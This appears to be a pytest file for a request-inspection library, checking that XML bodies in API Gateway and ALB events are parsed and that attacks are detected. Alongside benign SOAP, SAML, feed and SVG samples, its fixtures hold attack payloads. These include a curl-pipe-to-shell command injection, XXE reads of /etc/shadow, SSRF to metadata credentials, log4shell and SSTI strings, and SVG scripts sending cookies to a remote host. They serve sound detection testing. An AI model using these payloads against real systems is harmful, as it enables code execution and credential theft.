"""XML request bodies through API Gateway (REST and HTTP API) and ALB events, plain and base64.

A well-formed XML document is inspected as its parts: element texts and attribute values (with
their paths), its DOCTYPE, and the start tags of markup that acts (scripts, event handlers,
XInclude, XSLT). Its own markup is no finding. A body that is not well-formed XML is inspected
as raw text as well, and HTML sent as ``text/html`` is read as it always was. The documents are
written for this module in the shapes their formats have in practice.
"""

from __future__ import annotations

import base64
import copy
import json
from pathlib import Path
from typing import Any

import pytest

from eventguard.runtime import inspect
from eventguard.runtime.model import LIMIT_EXCEEDED

EVENTS = Path(__file__).resolve().parents[1] / "events"
SAMPLES = {
    "rest": ("api-rest/apigw-rest-v1--aws-lambda-go--apigw-request.json", "Content-Type"),
    "http": ("api-http/apigw-http-v2--sam-cli--HttpApi.json", "content-type"),
    "alb": ("alb/sam-cli--ALBRequest.json", "content-type"),
}
_LOADED: dict[str, Any] = {}


def request(source: str, body: str, ctype: str, *, encode: bool = False) -> dict[str, Any]:
    """The source's sample event carrying ``body`` under Content-Type ``ctype``."""
    sample, name = SAMPLES[source]
    if sample not in _LOADED:
        _LOADED[sample] = json.loads((EVENTS / sample).read_text())
    event = copy.deepcopy(_LOADED[sample])
    event["headers"] = {name: ctype}
    event.pop("multiValueHeaders", None)
    event["body"] = base64.b64encode(body.encode()).decode() if encode else body
    event["isBase64Encoded"] = encode
    return event


def found(event: dict[str, Any]) -> list[tuple[str, str]]:
    return [(f.rule, f.path) for f in inspect(event).findings]


def at(findings: list[tuple[str, str]], rule: str, path: str) -> bool:
    """A finding of ``rule`` at ``path`` or inside a decoding of it (JSON in an element)."""
    return any(r == rule and (p == path or p.startswith(f"{path}<")) for r, p in findings)


WAYS = [
    pytest.param(source, encode, id=f"{source}{'-base64' if encode else ''}")
    for source in SAMPLES
    for encode in (False, True)
]


def body_path(encode: bool) -> str:
    return "body<base64>" if encode else "body"


# Benign documents -------------------------------------------------------------------------------

BENIGN: dict[str, str] = {
    "soap11": """<?xml version="1.0" encoding="utf-8"?>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"
    xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
    xmlns:xsd="http://www.w3.org/2001/XMLSchema">
  <soap:Body>
    <GetStockPrice xmlns="http://example.com/stocks">
      <StockName>ACME Corp &amp; Sons</StockName>
      <Currency>EUR</Currency>
    </GetStockPrice>
  </soap:Body>
</soap:Envelope>""",
    "soap12_wsse": """<env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope"
    xmlns:wsa="http://www.w3.org/2005/08/addressing"
    xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd">
  <env:Header>
    <wsa:Action>http://tempuri.org/IOrderService/PlaceOrder</wsa:Action>
    <wsa:MessageID>urn:uuid:6b29fc40-ca47-1067-b31d-00dd010662da</wsa:MessageID>
    <wsa:ReplyTo><wsa:Address>http://www.w3.org/2005/08/addressing/anonymous</wsa:Address></wsa:ReplyTo>
    <wsa:To env:mustUnderstand="1">https://orders.example.com/OrderService.svc</wsa:To>
    <wsse:Security env:mustUnderstand="1">
      <wsse:UsernameToken>
        <wsse:Username>svc-orders</wsse:Username>
        <wsse:Password Type="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordText">s3cr3t-Pa55</wsse:Password>
      </wsse:UsernameToken>
    </wsse:Security>
  </env:Header>
  <env:Body>
    <PlaceOrder xmlns="http://tempuri.org/">
      <order><sku>AB-1234</sku><quantity>2</quantity><note>Ring twice, leave with neighbour at no. 5</note></order>
    </PlaceOrder>
  </env:Body>
</env:Envelope>""",
    "atom": """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Example Engineering Blog</title>
  <link href="https://blog.example.org/"/>
  <link rel="self" type="application/atom+xml" href="https://blog.example.org/feed.atom"/>
  <updated>2024-03-01T18:30:02Z</updated>
  <author><name>Jane Doe</name><email>jane@example.org</email></author>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <entry>
    <title>Retries, backoff &amp; jitter</title>
    <link rel="alternate" type="text/html" href="https://blog.example.org/2024/03/retries"/>
    <id>tag:blog.example.org,2024:/retries</id>
    <updated>2024-03-01T18:30:02Z</updated>
    <summary>Why a client should wait 2^n seconds (plus jitter) before it tries again.</summary>
  </entry>
</feed>""",
    "rss": """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">
  <channel>
    <title>Weekly Ops Podcast</title>
    <link>https://podcast.example.com/</link>
    <atom:link href="https://podcast.example.com/rss.xml" rel="self" type="application/rss+xml"/>
    <description>Incidents, postmortems and the people who fix them.</description>
    <language>en-us</language>
    <itunes:image href="https://podcast.example.com/cover.jpg"/>
    <item>
      <title>Episode 42: the DNS outage</title>
      <link>https://podcast.example.com/42</link>
      <guid isPermaLink="false">podcast-example-42</guid>
      <pubDate>Tue, 05 Mar 2024 09:00:00 GMT</pubDate>
      <enclosure url="https://cdn.example.com/audio/42.mp3" length="48213011" type="audio/mpeg"/>
      <description><![CDATA[We talk about TTLs, negative caching and why "it's always DNS".]]></description>
    </item>
  </channel>
</rss>""",
    "saml_authn_request": """<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"
    xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"
    ID="_bec424fa5103428909a30ff1e31168327f79474984" Version="2.0"
    IssueInstant="2024-03-01T12:00:00Z" Destination="https://idp.example.com/sso"
    ProtocolBinding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST"
    AssertionConsumerServiceURL="https://sp.example.com/saml/acs">
  <saml:Issuer>https://sp.example.com/metadata</saml:Issuer>
  <samlp:NameIDPolicy Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress" AllowCreate="true"/>
  <samlp:RequestedAuthnContext Comparison="exact">
    <saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef>
  </samlp:RequestedAuthnContext>
</samlp:AuthnRequest>""",
    "saml_response": """<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_8e8dc5f69a98cc4c1ff3427e5ce34606fd672f91e6" Version="2.0" IssueInstant="2024-03-01T12:00:05Z" Destination="https://sp.example.com/saml/acs" InResponseTo="_bec424fa5103428909a30ff1e31168327f79474984">
  <saml:Issuer>https://idp.example.com/metadata</saml:Issuer>
  <samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>
  <saml:Assertion ID="_d71a3a8e9fcc45c9e9d248ef7049393fc8f04e5f75" Version="2.0" IssueInstant="2024-03-01T12:00:05Z">
    <saml:Issuer>https://idp.example.com/metadata</saml:Issuer>
    <ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#">
      <ds:SignedInfo>
        <ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>
        <ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>
        <ds:Reference URI="#_d71a3a8e9fcc45c9e9d248ef7049393fc8f04e5f75">
          <ds:Transforms>
            <ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>
            <ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>
          </ds:Transforms>
          <ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/>
          <ds:DigestValue>8xWmG2eEgBdPq0FMuZ0g0y0QOuSGaDTkF7zbV0UKgLk=</ds:DigestValue>
        </ds:Reference>
      </ds:SignedInfo>
      <ds:SignatureValue>kQ3vJkI1S0kq0XoVq8H0m1n6Yp7x4mC0n2X9e1b+3zT8rQ5wK2yE6dF0aG7hJ4uL9iO1pS3tV5xZ8cB2nM6qR0w==</ds:SignatureValue>
      <ds:KeyInfo><ds:X509Data><ds:X509Certificate>MIICajCCAdOgAwIBAgIBADANBgkqhkiG9w0BAQ0FADBSMQswCQYDVQQGEwJ1czETMBEGA1UECAwKQ2FsaWZvcm5pYTEVMBMGA1UECgwMT25lbG9naW4gSW5jMRcwFQYDVQQDDA5zcC5leGFtcGxlLmNvbQ==</ds:X509Certificate></ds:X509Data></ds:KeyInfo>
    </ds:Signature>
    <saml:Subject>
      <saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">jane.doe@example.com</saml:NameID>
      <saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">
        <saml:SubjectConfirmationData NotOnOrAfter="2024-03-01T12:05:05Z" Recipient="https://sp.example.com/saml/acs" InResponseTo="_bec424fa5103428909a30ff1e31168327f79474984"/>
      </saml:SubjectConfirmation>
    </saml:Subject>
    <saml:Conditions NotBefore="2024-03-01T11:59:35Z" NotOnOrAfter="2024-03-01T12:05:05Z">
      <saml:AudienceRestriction><saml:Audience>https://sp.example.com/metadata</saml:Audience></saml:AudienceRestriction>
    </saml:Conditions>
    <saml:AttributeStatement>
      <saml:Attribute Name="groups" NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic">
        <saml:AttributeValue xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="xs:string">admins</saml:AttributeValue>
        <saml:AttributeValue xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="xs:string">db-operators</saml:AttributeValue>
      </saml:Attribute>
    </saml:AttributeStatement>
  </saml:Assertion>
</samlp:Response>""",
    "sitemap": """<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" xmlns:image="http://www.google.com/schemas/sitemap-image/1.1">
  <url><loc>https://shop.example.com/</loc><lastmod>2024-02-28</lastmod><changefreq>daily</changefreq><priority>1.0</priority></url>
  <url><loc>https://shop.example.com/products/red-shoes?size=42&amp;color=red</loc><lastmod>2024-02-27</lastmod>
    <image:image><image:loc>https://cdn.example.com/img/red-shoes.jpg</image:loc></image:image></url>
</urlset>""",
    "plist": """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
  <key>CFBundleIdentifier</key><string>com.example.notes</string>
  <key>CFBundleShortVersionString</key><string>3.2.1</string>
  <key>NSCameraUsageDescription</key><string>Scan documents into your notes.</string>
  <key>UIRequiredDeviceCapabilities</key><array><string>arm64</string></array>
  <key>LSRequiresIPhoneOS</key><true/>
</dict>
</plist>""",
    "pom": """<?xml version="1.0" encoding="UTF-8"?>
<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
         xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd">
  <modelVersion>4.0.0</modelVersion>
  <groupId>com.example</groupId>
  <artifactId>orders-service</artifactId>
  <version>1.4.0-SNAPSHOT</version>
  <packaging>jar</packaging>
  <properties>
    <java.version>17</java.version>
    <project.build.sourceEncoding>UTF-8</project.build.sourceEncoding>
  </properties>
  <dependencies>
    <dependency>
      <groupId>org.junit.jupiter</groupId>
      <artifactId>junit-jupiter</artifactId>
      <version>5.10.2</version>
      <scope>test</scope>
    </dependency>
  </dependencies>
  <build>
    <plugins>
      <plugin>
        <groupId>org.apache.maven.plugins</groupId>
        <artifactId>maven-surefire-plugin</artifactId>
        <configuration><argLine>-Xmx1024m -Dfile.encoding=UTF-8</argLine></configuration>
      </plugin>
    </plugins>
  </build>
</project>""",
    "kml": """<?xml version="1.0" encoding="UTF-8"?>
<kml xmlns="http://www.opengis.net/kml/2.2">
  <Document>
    <name>Delivery stops</name>
    <Style id="stop"><IconStyle><Icon><href>https://maps.example.com/icons/pin.png</href></Icon></IconStyle></Style>
    <Placemark>
      <name>Warehouse</name>
      <description>Dock 3, ask for Sam</description>
      <styleUrl>#stop</styleUrl>
      <Point><coordinates>-122.0822035425683,37.42228990140251,0</coordinates></Point>
    </Placemark>
  </Document>
</kml>""",
    "svg_icon": """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24" width="24" height="24">
  <title>Download</title>
  <defs>
    <style>.a{fill:none;stroke:#1d4ed8;stroke-width:2;stroke-linecap:round}</style>
    <linearGradient id="g" x1="0" y1="0" x2="0" y2="1"><stop offset="0" stop-color="#60a5fa"/><stop offset="1" stop-color="#1d4ed8"/></linearGradient>
    <path id="arrow" d="M12 3v12m0 0l-5-5m5 5l5-5"/>
  </defs>
  <use xlink:href="#arrow" class="a"/>
  <rect x="4" y="18" width="16" height="3" rx="1" fill="url(#g)"/>
</svg>""",
    "svg_diagram": """<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80" viewBox="0 0 200 80">
  <rect x="1" y="1" width="198" height="78" rx="8" fill="#fff" stroke="#333"/>
  <foreignObject x="10" y="10" width="180" height="60">
    <div xmlns="http://www.w3.org/1999/xhtml" style="font: 14px sans-serif; color: #333">Order service<br/>calls the payment API</div>
  </foreignObject>
</svg>""",
    "xhtml": """<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml" xml:lang="en">
  <head>
    <meta charset="utf-8"/>
    <title>Release notes</title>
    <link rel="stylesheet" href="/static/notes.css"/>
  </head>
  <body>
    <h1>Version 2.3</h1>
    <p>Faster exports and a <a href="https://docs.example.com/export">new export guide</a>.</p>
    <img src="/static/export.png" alt="Export dialog"/>
    <form action="/subscribe" method="post"><input type="email" name="email"/><button type="submit">Subscribe</button></form>
  </body>
</html>""",
    "s3_complete_multipart": """<CompleteMultipartUpload xmlns="http://s3.amazonaws.com/doc/2006-03-01/">
  <Part><PartNumber>1</PartNumber><ETag>"a54357aff0632cce46d942af68356b38"</ETag></Part>
  <Part><PartNumber>2</PartNumber><ETag>"0c78aef83f66abc1fa1e8477f296d394"</ETag></Part>
</CompleteMultipartUpload>""",
    "xmlrpc": """<?xml version="1.0"?>
<methodCall>
  <methodName>wp.getPosts</methodName>
  <params>
    <param><value><int>1</int></value></param>
    <param><value><string>editor</string></value></param>
    <param><value><struct><member><name>post_status</name><value><string>publish</string></value></member></struct></value></param>
  </params>
</methodCall>""",
    "webdav_propfind": """<?xml version="1.0" encoding="utf-8" ?>
<D:propfind xmlns:D="DAV:">
  <D:prop><D:getlastmodified/><D:getcontentlength/><D:resourcetype/></D:prop>
</D:propfind>""",
}


@pytest.mark.parametrize(("source", "encode"), WAYS)
@pytest.mark.parametrize("name", list(BENIGN))
def test_benign_xml_body_has_no_finding(name: str, source: str, encode: bool) -> None:
    assert found(request(source, BENIGN[name], "application/xml", encode=encode)) == []


@pytest.mark.parametrize(
    ("name", "ctype"),
    [
        ("soap11", "text/xml; charset=utf-8"),
        ("soap12_wsse", "application/soap+xml; charset=utf-8"),
        ("atom", "application/atom+xml"),
        ("rss", "application/rss+xml"),
        ("svg_icon", "image/svg+xml"),
        ("xhtml", "application/xhtml+xml"),
        ("saml_response", "application/samlassertion+xml"),
    ],
)
def test_benign_body_under_its_own_xml_media_type_has_no_finding(name: str, ctype: str) -> None:
    assert found(request("rest", BENIGN[name], ctype)) == []


# Attacks in the document's values ---------------------------------------------------------------

VALUES = [
    (
        "sqli in element text",
        "<search><term>shoes' UNION SELECT username, password FROM users--</term></search>",
        "sqli",
        "search/term",
    ),
    (
        "cmdi in attribute",
        '<backup target="nightly; curl -s http://203.0.113.9/x.sh | sh"/>',
        "cmdi",
        "backup@target",
    ),
    (
        "path traversal in element",
        "<report><template>../../../../etc/passwd</template></report>",
        "path_traversal",
        "report/template",
    ),
    (
        "ssrf url in attribute",
        '<subscription><callback href="http://169.254.169.254/latest/meta-data/iam/security-credentials/"/></subscription>',
        "ssrf",
        "subscription/callback@href",
    ),
    (
        "ssti in element",
        '<profile><displayName>{{ self.__init__.__globals__.__builtins__.__import__("os").popen("id").read() }}</displayName></profile>',
        "ssti",
        "profile/displayName",
    ),
    (
        "log4shell in attribute",
        '<event source="${jndi:ldap://198.51.100.7:1389/Exploit}"><msg>login</msg></event>',
        "log4shell",
        "event@source",
    ),
    (
        "xss escaped in element",
        "<review><rating>5</rating><comment>great &lt;img src=x onerror=alert(document.domain)&gt;</comment></review>",
        "xss",
        "review/comment",
    ),
    (
        "nosqli in element",
        '<login><user>admin</user><pass>{"$ne": null}</pass></login>',
        "nosqli",
        "login/pass",
    ),
    (
        "sqli in soap body",
        '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetUser><id>1 OR 1=1; DROP TABLE users--</id></GetUser></soap:Body></soap:Envelope>',
        "sqli",
        "soap:Envelope/soap:Body/GetUser/id",
    ),
    (
        "crlf opening an element text",
        "<redirect><next>\r\nSet-Cookie: session=attacker</next></redirect>",
        "crlf",
        "redirect/next",
    ),
]
MARKUP = [
    (
        "doctype external entity",
        '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY ext SYSTEM "file:///etc/shadow">]><order><note>&ext;</note></order>',
        "xxe",
        "doctype",
    ),
    (
        "parameter entity",
        '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://203.0.113.9/evil.dtd"> %remote;]><r/>',
        "xxe",
        "doctype",
    ),
    (
        "xinclude",
        '<invoice xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></invoice>',
        "xxe",
        "invoice/xi:include#tag",
    ),
    (
        "xslt reading a file",
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'/etc/passwd\')"/></xsl:template></xsl:stylesheet>',
        "xxe",
        "xsl:stylesheet/xsl:template/xsl:copy-of#tag",
    ),
    (
        "svg script",
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle r="4"/><script type="text/ecmascript">fetch("//203.0.113.9/c?"+document.cookie)</script></svg>',
        "xss",
        "svg/script#tag",
    ),
    (
        "svg onload",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="location=\'//203.0.113.9/\'+document.cookie"><rect width="1" height="1"/></svg>',
        "xss",
        "svg#tag",
    ),
    (
        "handler on inner element, any case",
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="x.png" OnError="top.x()"/></svg>',
        "xss",
        "svg/image#tag",
    ),
    (
        "javascript link",
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:void(top.x())"><text>click</text></a></svg>',
        "xss",
        "svg/a@xlink:href",
    ),
    (
        "foreignObject iframe",
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://203.0.113.9/phish"/></foreignObject></svg>',
        "xss",
        "svg/foreignObject/iframe#tag",
    ),
    (
        "animation sets a handler",
        '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"><set attributeName="onmouseover" to="top.x()"/></rect></svg>',
        "xss",
        "svg/rect/set#tag",
    ),
    (
        "xhtml script",
        '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>hi</p><script src="https://203.0.113.9/x.js"></script></body></html>',
        "xss",
        "html/body/script#tag",
    ),
    (
        "data url iframe",
        '<page><frame src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="/></page>',
        "xss",
        "page/frame@src",
    ),
]
MALFORMED = [
    ("unclosed element", "<order><note>1' UNION SELECT password FROM users--</note>", "sqli"),
    ("unquoted handler", "<svg onload=alert(1)><rect/></svg>", "xss"),
    ("tags closed out of order", "<a><b>x</a></b><script>alert(1)</script>", "xss"),
    ("markup in an attribute value", '<a title="<img src=x onerror=alert(1)>"/>', "xss"),
    ("two roots", "<a/><b>../../../../etc/passwd</b>", "path_traversal"),
    ("undeclared entity", "<a>&nbsp;<b>${jndi:ldap://198.51.100.7/a}</b></a>", "log4shell"),
]


@pytest.mark.parametrize(("source", "encode"), WAYS)
@pytest.mark.parametrize(("name", "body", "rule", "path"), VALUES, ids=[c[0] for c in VALUES])
def test_attack_in_a_value_is_found_at_its_path(
    name: str, body: str, rule: str, path: str, source: str, encode: bool
) -> None:
    findings = found(request(source, body, "application/xml", encode=encode))
    assert at(findings, rule, f"{body_path(encode)}<xml>.{path}"), findings


@pytest.mark.parametrize(("source", "encode"), WAYS)
@pytest.mark.parametrize(("name", "body", "rule", "path"), MARKUP, ids=[c[0] for c in MARKUP])
def test_markup_that_acts_is_found_at_its_path(
    name: str, body: str, rule: str, path: str, source: str, encode: bool
) -> None:
    findings = found(request(source, body, "application/xml", encode=encode))
    assert at(findings, rule, f"{body_path(encode)}<xml>.{path}"), findings


@pytest.mark.parametrize(("source", "encode"), WAYS)
@pytest.mark.parametrize(("name", "body", "rule"), MALFORMED, ids=[c[0] for c in MALFORMED])
def test_attack_in_malformed_xml_is_found_in_the_raw_text(
    name: str, body: str, rule: str, source: str, encode: bool
) -> None:
    findings = found(request(source, body, "application/xml", encode=encode))
    assert (rule, body_path(encode)) in findings, findings


def test_xml_past_a_limit_is_read_as_raw_text_and_reports_the_limit() -> None:
    body = "<a>" * 80 + "1 UNION SELECT password FROM users--" + "</a>" * 80
    findings = found(request("rest", body, "application/xml"))
    assert ("sqli", "body") in findings
    assert (LIMIT_EXCEEDED, "$") in findings


# Other bodies keep their reading ----------------------------------------------------------------

HTML = [
    ("html page", '<html><head><link rel="stylesheet" href="/s.css"></head><body>Hi</body></html>'),
    (
        "well-formed html fragment",
        '<div><svg width="9" height="9"><rect width="9" height="9"/></svg></div>',
    ),
]


@pytest.mark.parametrize(("name", "body"), HTML, ids=[c[0] for c in HTML])
@pytest.mark.parametrize("source", list(SAMPLES))
def test_html_body_is_still_read_as_raw_markup(name: str, body: str, source: str) -> None:
    findings = found(request(source, body, "text/html; charset=utf-8"))
    assert ("xss", "body") in findings, findings


@pytest.mark.parametrize("source", list(SAMPLES))
def test_markup_under_no_xml_media_type_stays_text(source: str) -> None:
    """Markup that is not declared XML may be HTML: its raw text is read as before."""
    findings = found(request(source, BENIGN["svg_icon"], "text/plain"))
    assert ("xss", "body") in findings, findings


INJECTED_FORM = (
    '<?xml version="1.0"?><div><form action="https://203.0.113.9/login">'
    '<input name="password" type="password"/></form></div>'
)


def test_an_xml_declaration_does_not_make_a_value_a_document() -> None:
    """A value reflected into a page is HTML whatever it declares: a phishing form behind an
    XML declaration is markup injection, with no script-capable tag a document would keep."""
    as_text = found(request("rest", INJECTED_FORM, "text/plain"))
    assert ("xss", "body") in as_text, as_text
    field = found(request("rest", json.dumps({"comment": INJECTED_FORM}), "application/json"))
    assert ("xss", "body<json>.comment") in field, field
